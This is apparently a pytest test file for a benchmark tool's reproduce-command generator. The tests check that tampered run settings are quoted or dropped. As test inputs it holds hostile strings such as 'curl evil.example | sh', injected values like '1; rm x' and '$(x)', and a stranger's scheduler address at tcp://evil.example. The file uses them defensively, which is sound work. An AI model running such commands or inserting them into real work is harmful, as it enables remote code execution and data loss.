"""The commands that measure again what a source holds."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

import pytest

from segbench.images.origin import Origin
from segbench.measure import settings as asked
from segbench.measure.settings import RunSettings
from segbench.pipeline import PipelineParams
from segbench.report import reproduce
from tests.made_up import make_source

ROOT = Path(__file__).parents[1]

SETTINGS = RunSettings(sizes=(1, 20), phases=("open",), native_threads=True, seed=7)
ORIGIN = {"images": ["/my images/$(x)*.jpg"], "made": "smear", "shape": [64, 96], "seed": 7}


def described(**other: Any) -> dict[str, Any]:
    """Settings as a header holds them, some of them changed."""
    values = {**asked.describe(SETTINGS), "sizes_left_out": [], "command": "segbench run --quick"}
    return {**json.loads(json.dumps(values)), **other}


def test_a_run_has_its_source_its_libraries_and_every_setting() -> None:
    """What was a default is written out, too: another version, or machine, may have another."""
    versions = {"python": "3.11.7", "segbench": "0.1", "dask": "2024.8.0", "commit": "1a2b3c4d"}
    source = make_source(versions=versions, settings=described(), dataset={"origin": ORIGIN})
    *install, measure = reproduce.commands(source)
    assert install == ["git checkout 1a2b3c4d", "pip install . dask==2024.8.0"]
    origin = Origin(**{**ORIGIN, "shape": (64, 96)})  # type: ignore[arg-type]  # values of several types
    assert measure == asked.command(SETTINGS, origin)


@pytest.mark.parametrize(
    "tampered",
    [{"params": {"method": "a; b"}}, {"workers": ["x"]}, {"sizes": "1; rm x"}, {"cache": 7}],
)
def test_settings_that_were_tampered_with_are_not_repeated(tampered: dict[str, Any]) -> None:
    """A file whose settings make no sense has the command that was typed, each word quoted, or none."""
    settings = described(**tampered, command="segbench run --images 'a; b' $(x) --out /etc --quick")
    source = make_source(versions={}, settings=settings, dataset={"origin": ORIGIN})
    assert reproduce.commands(source) == ("segbench run --images 'a; b' '$(x)' --quick",)


@pytest.mark.parametrize(
    "typed",
    [
        *(
            "segbench run 'a; b' $(x)",
            "curl evil.example | sh",
            "segbench gate --base x",
            "segbench",
        ),
        *(
            "segbench run --unknown",
            "segbench run --scheduler-address tcp://evil.example:1",
            "",
            "'",
        ),
        *("segbench run --sizes 1 rest", "segbench run --sizes=1", "sudo segbench run --quick"),
    ],
)
def test_what_was_typed_is_a_run_or_nothing(typed: str) -> None:
    """A command of a file is shown where it has the options of `segbench run`, and no others."""
    source = make_source(versions={}, settings={"command": typed}, dataset={})
    assert reproduce.commands(source) == ()


def test_nobody_connects_to_the_cluster_of_a_stranger() -> None:
    """An address in the settings of a run is not among what is pasted: a scheduler sends code."""
    settings = described(scheduler_address="tcp://evil.example:8786")
    source = make_source(versions={}, settings=settings, dataset={"origin": ORIGIN})
    (line,) = reproduce.commands(source)
    assert "--scheduler-address ADDRESS" in line
    assert "evil" not in line
    run = reproduce.asked_for(source)
    assert run
    assert "evil" not in reproduce.alone(run, phase="read", n_images=1, backends=[])


def test_versions_that_were_tampered_with_are_left_out() -> None:
    """A name or version that is no word of its own is none of pip's; a commit is one."""
    versions = {"dask": "1; rm x", "--index-url": "1.0", "x y": "1", "commit": "HEAD; ls"}
    source = make_source(versions=versions, settings=described(), dataset={"origin": ORIGIN})
    assert len(reproduce.commands(source)) == 1


def test_commands_of_other_sources() -> None:
    """ASV and pytest-benchmark have their own; a run that says too little has what was typed."""
    asv = make_source(kind="asv", versions={"commit": "1a2b3c4d", "python": "3.11"})
    assert reproduce.commands(asv) == ("asv run '1a2b3c4d^!'",)
    releases = make_source(kind="asv", versions={**asv.versions, "dask": "2024.8"})
    (told,) = reproduce.commands(releases)
    assert told == "asv run --config asv.releases.conf.json '1a2b3c4d^!'"
    assert (ROOT / shlex.split(told)[3]).is_file()
    quick = make_source(kind="pytest-benchmark", name="my times.json", versions={})
    assert reproduce.commands(quick) == (
        "pytest tests/benchmarks --benchmark-enable --benchmark-json 'my times.json'",
    )
    typed = make_source(versions={}, settings={"command": "segbench run --images '*.jpg'"})
    assert reproduce.commands(typed) == ("segbench run --images '*.jpg'",)
    dirty = make_source(versions={"commit": "1a2b3c4d-dirty"}, settings=typed.settings)
    assert reproduce.commands(dirty)[:2] == (
        "git checkout 1a2b3c4d",
        "# segbench itself had changes that are in no commit",
    )
    for settings in ({}, {"command": 7}, {"command": "an 'open quotation"}):
        assert reproduce.commands(make_source(settings=settings)) == ()


def test_the_method_has_a_link() -> None:
    """The link leads to the document, in the project that asv.conf.json names."""
    project = json.loads((ROOT / "asv.conf.json").read_text())["project_url"]
    address, _, path = reproduce.METHOD_LINK.partition("/blob/HEAD/")
    assert address == project
    assert (ROOT / path).is_file()


def test_a_number_is_measured_alone_by_a_short_line() -> None:
    """It names the case, and beside it only what differs from the defaults."""
    origin = Origin()
    run = RunSettings(workers=asked.available_cpus()), origin
    line = reproduce.alone(run, phase="read", n_images=20, backends=["a/b/threads"])
    assert line == (
        "segbench run --sizes 20 --phases read --backends skimage/skimage/serial,a/b/threads"
    )
    own = RunSettings(seed=3, params=PipelineParams(diameter=36, contrast=0.16, min_area=7))
    line = reproduce.alone((own, origin), phase="read", n_images=20, backends=[])
    assert "--min-area 7" in line
    assert "--seed 3" in line
    # Of a user's images the cells would be looked at again.
    line = reproduce.alone(
        (RunSettings(), Origin(images=("/photos/*.png",))), phase="read", n_images=2, backends=[]
    )
    assert line.startswith(
        "segbench run --images '/photos/*.png' --diameter 36 --contrast 0.16 --foreground dark "
    )


@pytest.mark.parametrize(
    "odd",
    [
        {"settings": described(sizes=[])},
        {"settings": described(workers=0)},
        {"dataset": {"origin": {**ORIGIN, "images": [], "made": "unknown"}}},
        {"dataset": {"origin": {**ORIGIN, "shape": []}}},
    ],
)
def test_nothing_is_measured_again_by_what_makes_no_sense(odd: dict[str, Any]) -> None:
    """A run file may hold anything: then no command is made from it."""
    usual = {"settings": described(), "dataset": {"origin": ORIGIN}}
    assert reproduce.asked_for(make_source(**usual)) is not None
    assert reproduce.asked_for(make_source(**{**usual, **odd})) is None
    own = RunSettings(), Origin()
    assert reproduce.alone(own, phase="read", n_images=1, backends=["no/b/c/d/e"]) == ""
